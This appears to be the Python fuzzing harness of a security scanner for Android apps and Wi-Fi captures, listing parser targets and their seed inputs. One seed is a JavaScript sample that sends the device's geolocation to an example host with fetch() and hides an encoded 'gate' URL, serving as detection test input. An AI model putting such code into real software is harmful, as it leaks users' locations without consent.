"""What can be fuzzed: every reader of bytes from outside, with real files to start from.

Each target takes bytes and has to end with a value or an error of ours. Seeds come from ``tests/data``:
mutations of real files get further than noise, which ends at the first magic number.
"""

import contextlib
import functools
import importlib
import io
import re
import struct
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from rogue_scan.errors import LimitExceeded, Malformed, RuleError, Truncated, Unreadable, Unsupported

DATA = Path(__file__).parent.parent / "tests" / "data"
OURS = (Malformed, Truncated, LimitExceeded, Unsupported, RuleError)
MAX_SEED = 300_000


@dataclass
class Target:
    """One reader."""

    run: Callable[[bytes], object]
    seeds: Callable[[], list[bytes]]
    seconds: float = 3.0
    """CPU time that one input may take."""


def _apps(*names: str) -> list[bytes]:
    found = [next(DATA.glob(f"apk/{name}.a*")).read_bytes() for name in names]
    return [data for data in found if len(data) <= MAX_SEED]


@functools.cache
def _entries(pattern: str) -> list[bytes]:
    """Entries of all shipped apps whose names match, each content once."""
    found: dict[bytes, None] = {}
    for path in sorted(DATA.glob("apk/*.a[pa]*")):
        try:
            with zipfile.ZipFile(path) as archive:
                for info in archive.infolist():
                    if re.search(pattern, info.filename) and 0 < info.file_size <= MAX_SEED:
                        found[archive.read(info)] = None
        except (zipfile.BadZipFile, NotImplementedError, RuntimeError, OSError, ValueError, EOFError):
            continue  # some are damaged on purpose
    return list(found)[:40]


@functools.cache
def _packets() -> list[bytes]:
    """Frames of shipped captures with their capture headers."""
    from scapy.utils import rdpcap

    found = []
    for path in sorted(DATA.glob("wifi/*.pcap*")):
        if path.stat().st_size < 200_000:
            found += [bytes(p) for p in rdpcap(io.BytesIO(_plain(path)), 600)]
    return found


def _plain(path: Path) -> bytes:
    from rogue_scan.wifi.capture.open import unpack

    raw = path.read_bytes()
    packing = path.suffix.removeprefix(".")
    return b"".join(unpack(packing, iter([raw]))) if packing in ("gz", "xz", "zst") else raw


def _captures() -> list[bytes]:
    paths = sorted(DATA.glob("wifi/*.pcap*"), key=lambda p: p.stat().st_size)
    return [data[:60_000] for data in map(_plain, paths[:12])]


def _after(marker: bytes, least: int = 1) -> list[bytes]:
    """What follows a marker in frames, each length once: frames alike say the same."""
    found: dict[tuple[bytes, int], bytes] = {}
    for packet in _packets():
        at = packet.find(marker)
        if at >= 0 and len(packet) - at - len(marker) >= least:
            rest = packet[at + len(marker) :]
            found.setdefault((rest[:4], len(rest)), rest)
    return list(found.values())[:120]


_LLC = b"\xaa\xaa\x03\0\0\0"


def _internet() -> list[bytes]:
    return _after(_LLC + b"\x08\x00", 20)


def _carried(protocol: int, *ports: int) -> list[bytes]:
    """What IPv4 packets of a protocol to or from these ports carry."""
    found = []
    for packet in _internet():
        head = (packet[0] & 15) * 4
        if packet[9] != protocol or len(packet) < head + 20:
            continue
        if ports and not {*struct.unpack_from("!HH", packet, head)} & {*ports}:
            continue
        size = (packet[head + 12] >> 4) * 4 if protocol == 6 else 8
        found.append(packet[head + size :])
    return [data for data in found if data]


def _beacons() -> list[bytes]:
    found: dict[bytes, None] = {}
    for packet in _packets():
        header = struct.unpack_from("<H", packet, 2)[0] if packet[:1] == b"\0" else 0
        if packet[header : header + 1] in (b"\x80", b"\x50") and len(packet) > header + 36:
            found[packet[header + 36 :]] = None
    return list(found)[:60]


# --- readers


def _each(*names: str) -> Callable[[bytes], None]:
    """Functions of bytes, as ``module:function``; each of them has to survive."""

    def run(data: bytes) -> None:
        for name in names:
            module, _, attribute = name.partition(":")
            with contextlib.suppress(*OURS):
                getattr(importlib.import_module(f"rogue_scan.{module}"), attribute)(data)

    return run


def _of_path(name: str, ending: str) -> Callable[[bytes], None]:
    """A function of a path, as ``module:function``."""
    module, _, attribute = name.partition(":")

    def run(data: bytes) -> None:
        with tempfile.NamedTemporaryFile(suffix=ending) as file:
            file.write(data)
            file.flush()
            getattr(importlib.import_module(f"rogue_scan.{module}"), attribute)(Path(file.name))

    return run


def _table(data: bytes) -> None:
    from rogue_scan.apk import prototable, resources

    parse = prototable.parse if data[:1] in (b"\x0a", b"\x12") else resources.parse
    table = parse(data, "resources")
    list(table.strings())
    for kind in ("layout", "string", "xml", "array"):
        for resource in list(table.ids(kind))[:50]:
            table.name(resource), table.texts(resource), table.array(resource)


def _xml(data: bytes) -> None:
    from rogue_scan.apk import manifest, xmlfile

    with contextlib.suppress(*OURS):
        xmlfile.parse(data, "m")
    manifest.parse(data, None, lambda name: data)


def _zip(data: bytes) -> None:
    from rogue_scan.apk.container import open_container

    box = open_container(data)
    for entry in box.entries[:50]:
        box.peek(entry)
        with contextlib.suppress(*OURS):
            box.read(entry, 1 << 20)


def _dex(data: bytes) -> None:
    from rogue_scan.apk import library_code
    from rogue_scan.apk.code.analyse import analyse_dexes
    from rogue_scan.apk.code.types import AppContext, NoResources
    from rogue_scan.apk.dex.reader import read_all

    dexes = read_all("classes.dex", data)
    library_code.known(dexes, {dex.class_name(row) for dex in dexes for row in range(len(dex.classes))})
    analyse_dexes(dexes, AppContext(), NoResources())


def _signing(data: bytes) -> None:
    from rogue_scan.apk import signing
    from rogue_scan.apk.container import open_container

    signing.verify(open_container(data))


def _cms(data: bytes) -> None:
    from rogue_scan.apk import certificate, cms

    certificate.public_key_of(data)
    certificate.certificate_facts(data, "")
    cms.first_signer(data)


def _compiled(data: bytes) -> None:
    from rogue_scan.apk import compiled

    list(compiled.hermes(data)), list(compiled.unity(data)), list(compiled.assemblies(data))


def _compiled_seeds() -> list[bytes]:
    seeds = [path.read_bytes() for path in sorted(DATA.glob("apk/*.hbc"))]
    for version, table in ((29, struct.pack("<4I", 4, 0, 3, 4)), (38, struct.pack("<2I", 0, 4))):
        sizes = (
            (32, len(table), 32 + len(table), 7) if version < 38 else (32, len(table), 2, 32 + len(table), 7)
        )
        head = bytes.fromhex("af1bb1fa") + struct.pack(f"<{1 + len(sizes)}I", version, *sizes)
        seeds.append(head.ljust(32, b"\0") + table + b"a://b.c")
    seeds.append(b"XABA" + bytes(20) + b"XALZ" + struct.pack("<II", 0, 20) + b"\x4fabcd\x04\x00\x01\x20ef")
    return seeds


def _elf(data: bytes) -> None:
    from rogue_scan.apk import native

    native.parse(data, "lib/arm64-v8a/liba.so")


def _script(data: bytes) -> None:
    from rogue_scan.apk import web

    web.parse(data, "assets/a.js"), web.parse(data, "assets/a.html")


@functools.cache
def _rules_ready() -> Any:
    from rogue_scan.rules.load import load

    return load()


@functools.cache
def _analyser() -> Any:
    from rogue_scan.apk.analyse import Analyser

    return Analyser(_rules_ready())


def _app(data: bytes) -> None:
    """The whole way of an app: bytes to facts, stored and read back, and to findings."""
    from rogue_scan.apk import facts, intake

    found = intake.decode(data).facts
    if facts.decode(facts.encode(found)) is None:
        raise AssertionError("facts that were stored cannot be read")
    _analyser().judge(found, "a.apk")


_NAMES = (
    "AndroidManifest.xml", "resources.arsc", "classes.dex", "lib/arm64-v8a/liba.so", "assets/index.html",
    "assets/index.android.bundle", "META-INF/MANIFEST.MF", "res/xml/net.xml",
)  # fmt: skip


def _entry(data: bytes) -> None:
    """An app with one entry replaced, said by the first byte: damage that no archive hides."""
    out = io.BytesIO()
    chosen = _NAMES[data[0] % len(_NAMES)] if data else _NAMES[0]
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in _whole().items():
            if name != chosen:
                archive.writestr(name, content)
        archive.writestr(chosen, data[1:])
    _app(out.getvalue())


@functools.cache
def _whole() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(_apps("bank-overlay")[0])) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _entry_seeds() -> list[bytes]:
    patterns = (r"AndroidManifest\.xml$", r"resources\.arsc$", r"classes\.dex$", r"\.so$", r"\.html$")
    return [bytes([kind]) + data for kind, what in enumerate(patterns) for data in _entries(what)[:4]]


def _capture(data: bytes) -> None:
    """The whole way of a capture: bytes to findings."""
    _session(data, [])


def _decrypt(data: bytes) -> None:
    """A capture of networks whose passphrases are known: handshakes, WPA2 and TKIP frames."""
    _session(data, _keys())


@functools.cache
def _keys() -> list[Any]:
    from rogue_scan.wifi.net.decrypt import parse_key

    return [parse_key("Haus am See:bootssteg-1998"), parse_key("Upstairs:ladder-1999")]


def _session(data: bytes, keys: list[Any]) -> None:
    from rogue_scan.model.subject import Subject
    from rogue_scan.wifi.analyse import Session

    session = Session(_rules_ready(), name="a", keys=keys)
    session.feed(data)
    session.finish()
    scan = session.scan(Subject("a", "capture", "a", "", len(data)))
    if any(error.kind == "rule" for error in scan.errors):
        raise AssertionError(f"a rule failed: {scan.errors}")


def _kismet(data: bytes) -> None:
    from rogue_scan.wifi.capture.kismetdb import KismetReader

    with tempfile.NamedTemporaryFile() as file:
        file.write(data)
        file.flush()
        try:
            for _ in KismetReader(Path(file.name)).chunks():
                pass
        except Unreadable:
            return


def _kismet_seeds() -> list[bytes]:
    import sqlite3

    with tempfile.NamedTemporaryFile() as file:
        with contextlib.closing(sqlite3.connect(file.name)) as base:
            base.execute("CREATE TABLE packets (ts_sec, ts_usec, dlt, datasource, packet)")
            rows = [(n, 0, 127, "one", packet) for n, packet in enumerate(_packets()[:20])]
            base.executemany("INSERT INTO packets VALUES (?, ?, ?, ?, ?)", rows)
            base.commit()
        return [Path(file.name).read_bytes()]


def _link(data: bytes) -> None:
    import numpy as np

    from rogue_scan.wifi.capture.chunk import PADDING
    from rogue_scan.wifi.dot11.link import decode_link

    for kind in (105, 119, 127, 163, 192):
        with contextlib.suppress(*OURS):
            decode_link(
                kind,
                np.frombuffer(data + bytes(PADDING), np.uint8),
                np.zeros(1, np.int64),
                np.array([len(data)]),
            )


def _elements(data: bytes) -> None:
    from rogue_scan.wifi.dot11 import elements, security, volatile

    volatile.volatile_ranges(data)
    found = elements.Elements(data)
    found.check()
    found.operated_frequency(2412)
    with contextlib.suppress(*OURS):
        security.security_of(found, 0x11)


def _http(data: bytes) -> None:
    from rogue_scan.wifi.net import http, parameters
    from rogue_scan.wifi.net.tcp import Piece

    reader = http.Reader()
    for begin in range(0, len(data), 700):
        for message in reader.feed(Piece(data[begin : begin + 700], 1, 0.0)):
            http.content(message, 10_000)
            parameters.sent(message)
    reader.finish(True)


def _tls(data: bytes) -> None:
    from rogue_scan.wifi.net import tls

    with contextlib.suppress(*OURS):
        tls.Reader().feed(data)
    _each(*(f"wifi.net.tls:{name}" for name in ("client_hello", "server_hello", "chain", "certificate")))(
        data
    )


def _neighbour(data: bytes) -> None:
    from rogue_scan.wifi.net import ndp

    ndp.decode(data, bytes(16))


def _quic(data: bytes) -> None:
    """As a datagram, and as what a packet holds."""
    from rogue_scan.wifi.net import quic

    with contextlib.suppress(*OURS):
        quic.Reader().add(b"\1", 1, data)
    with contextlib.suppress(*OURS):
        list(quic._crypto(data))


def _websocket(data: bytes) -> None:
    from rogue_scan.wifi.net import websocket

    reader = websocket.Reader()
    for begin in range(0, len(data), 700):
        reader.feed(data[begin : begin + 700])


def _tcp(data: bytes) -> None:
    """Segments cut out of the bytes, in whatever order they say."""
    from rogue_scan.wifi.net import tcp

    _each(*(f"wifi.net.ip:{name}" for name in ("ipv4", "ipv6", "tcp", "udp", "redirect")))(data)
    half = tcp.Half()
    for at in range(0, len(data) - 6, 6 + 40):
        sequence, size = struct.unpack_from("!IH", data, at)
        half.add(sequence, data[at + 6 : at + 6 + size % 40], at, at / 100)
    half.finish(1e9)


def _html(data: bytes) -> None:
    from rogue_scan.wifi.net import html

    html.read(html.text_of(data, "text/html"))


def _unpack(data: bytes) -> None:
    from rogue_scan.source import sniff
    from rogue_scan.wifi.capture.open import unpack

    sniff.kind(data[:4096], data[-4096:])
    sniff.unpacked(data[:4096])
    packing = sniff.compression(data[:64])
    for count, _ in enumerate(unpack(packing, iter([data]))) if packing else ():
        if count > 64:
            return


# --- seeds of texts

_POLICY = b"""policy: shop
forbid: {rules: ["apk/sms-*"], severity: high, data_leaving: [sms], permissions: [a.READ_SMS]}
require: {target_sdk: 30, declaration: true}
exceptions: [{package: org.example.*, forbid: {rules: ["apk/sms-*"]}, reason: agreed}]
"""
_IGNORE = b"""- {rule: "wifi/*", ssid: "Guest *", reason: ours, expires: 2030-01-01}
- {actor: "02:00:00:00:00:01", reason: lab}
"""
_DECLARATION = b"data: [sms, location]\nencrypted: true\n"
_CSV = b"""Question ID,Response ID,Response value,Answer requirement,Label
PSL_DATA_TYPES_LOCATION,PSL_APPROX_LOCATION,true,,
"""
_SCRIPT = b"""navigator.geolocation.getCurrentPosition(function (p) {
  fetch("https://a.example.org/" + p.coords.latitude);
});
var a = "aHR0cHM6Ly9oaWRkZW4uZXhhbXBsZS5vcmcvZ2F0ZQ==", b = [104, 116, 116, 112, 115, 58, 47, 47];
var c = "ht" + "tp://" + "x.org/";
"""
_PAGE = b"""<!doctype html><html><form action="/in">
<input type=password name=pass placeholder="Password"></form></html>"""


def _signatures() -> list[bytes]:
    folder = DATA.parent.parent / "signatures"
    return [path.read_bytes() for path in sorted(folder.glob("*/*.yml"))[::12]]


def _reports() -> list[bytes]:
    return [next(DATA.parent.glob("render/__snapshots__/test_golden/*[[]json].json")).read_bytes()]


def _sites() -> list[bytes]:
    from rogue_scan.model import site

    point = site.KnownAccessPoint(
        "02:00:00:00:00:01", ("Cafe",), ("wpa2-psk",), (2412,), elements={"48": ("0100",)}
    )
    return [
        site.encode(
            site.Site(name="cafe", visits=(site.Visit("a.pcap", "2026-01-01", 9.5),), access_points=(point,))
        )
    ]


def _packed() -> list[bytes]:
    import gzip
    import lzma

    import zstandard

    raw = _captures()[0]
    return [gzip.compress(raw), lzma.compress(raw), zstandard.ZstdCompressor().compress(raw)]


def _rsa_files() -> list[bytes]:
    return _entries(r"META-INF/[^/]+\.RSA$")


TARGETS: dict[str, Target] = {
    # apps
    "zip": Target(_zip, lambda: _apps("calculator", "zip-duplicate", "split-bundle", "zip-streamed")),
    "manifest": Target(_xml, lambda: _entries(r"(AndroidManifest|res/xml/\w+)\.xml$")),
    "resources": Target(_table, lambda: _entries(r"resources\.(arsc|pb)$")),
    "dex": Target(_dex, lambda: [d for d in _entries(r"classes\d*\.dex$") if len(d) < 60_000], 20),
    "elf": Target(_elf, lambda: _entries(r"\.so$")),
    "signing": Target(_signing, lambda: _apps("sig-v2-only", "sig-v1-only", "real-okhttp"), 10),
    "cms": Target(_cms, _rsa_files),
    "jar": Target(
        _each("apk.jar:digests", "apk.jar:main_attributes"), lambda: _entries(r"META-INF/\w+\.(MF|SF)$")
    ),
    "compiled": Target(_compiled, _compiled_seeds),
    "script": Target(_script, lambda: [_SCRIPT, _PAGE, *_entries(r"\.(js|html)$")]),
    "app": Target(_app, lambda: _apps("calculator", "apk-in-apk", "split-bundle", "build-tools-bundle"), 30),
    "app-entry": Target(_entry, _entry_seeds, 30),
    # captures
    "capture": Target(_capture, _captures, 20),
    "decrypt": Target(
        _decrypt,
        lambda: [_plain(DATA / f"wifi/{name}.pcapng")[:90_000] for name in ("transition-a", "weak-c")],
        20,
    ),
    "kismetdb": Target(_kismet, _kismet_seeds),
    "packing": Target(_unpack, _packed),
    "radiotap": Target(_link, lambda: [packet[:80] for packet in _packets()[::50]]),
    "elements": Target(_elements, _beacons),
    "security": Target(
        _each(*(f"wifi.dot11.security:{n}" for n in ("decode_rsn", "decode_rsnx", "decode_owe_transition")),
              "wifi.dot11.wps:decode_wps", "wifi.dot11.multilink:decode_multi_link",
              "wifi.dot11.multilink:decode_neighbours"),
        lambda: [bytes.fromhex("0100000fac040100000fac040100000fac020000")],
    ),
    "eapol": Target(
        _each(*(f"wifi.dot11.eapol:{n}" for n in ("decode_header", "decode_key", "decode_eap"))),
        lambda: [part for raw in _after(_LLC + b"\x88\x8e", 5) for part in (raw, raw[4:])],
    ),
    "link": Target(
        _each("wifi.net.link:units", "wifi.net.arp:decode"),
        lambda: [*_after(_LLC[:3]), *_after(_LLC + b"\x08\x06")],
    ),
    "neighbour": Target(
        _neighbour,
        lambda: [bytes([kind]) + bytes(23) + b"\2\1" + bytes(6) for kind in (134, 135, 136)],
    ),
    "tcp": Target(_tcp, lambda: [*_internet(), *_carried(6)]),
    "http": Target(_http, lambda: _carried(6, 80)),
    "html": Target(_html, lambda: [_PAGE, *_entries(r"\.html$")]),
    "dns": Target(_each("wifi.net.dns:decode"), lambda: _carried(17, 53)),
    "dhcp": Target(_each("wifi.net.dhcp:decode"), lambda: _carried(17, 67, 68)),
    "tls": Target(_tls, lambda: [data for data in _carried(6) if data[:1] in (b"\x16", b"\x15")]),
    "quic": Target(
        _quic,
        lambda: [b"\xc1\0\0\0\1\x08" + bytes(10) + b"\x44\x9c" + bytes(1180),
                 b"\1\6\0\4\1\0\0\0\2\0\0\0\0\6\x40\4\1a"],
    ),
    "websocket": Target(
        _websocket,
        lambda: [b"\x81\x85\0\0\0\0hello\x01\x81\0\0\0\0a\x80\xfe\0\x7e\1\2\3\4" + bytes(126),
                 b"\xc1\x87\0\0\0\0\xcaH\xcd\xc9\xc9\x07\0"],
    ),
    # what people write
    "report": Target(_each("life.migrate:read"), _reports),
    "site": Target(_each("model.site:decode", "model.site:is_site"), _sites),
    "policy": Target(_of_path("apk.policy:load_policy", ".yml"), lambda: [_POLICY]),
    "declaration": Target(_of_path("apk.policy:load_declaration", ".yml"), lambda: [_DECLARATION]),
    "declaration-csv": Target(_of_path("apk.policy:load_declaration", ".csv"), lambda: [_CSV]),
    "ignore": Target(_of_path("life.suppress:read_ignore_file", ".yml"), lambda: [_IGNORE]),
    "signature": Target(_of_path("rules.load:load_file", ".yml"), _signatures),
}  # fmt: skip
"""Every reader of bytes from outside by its name."""
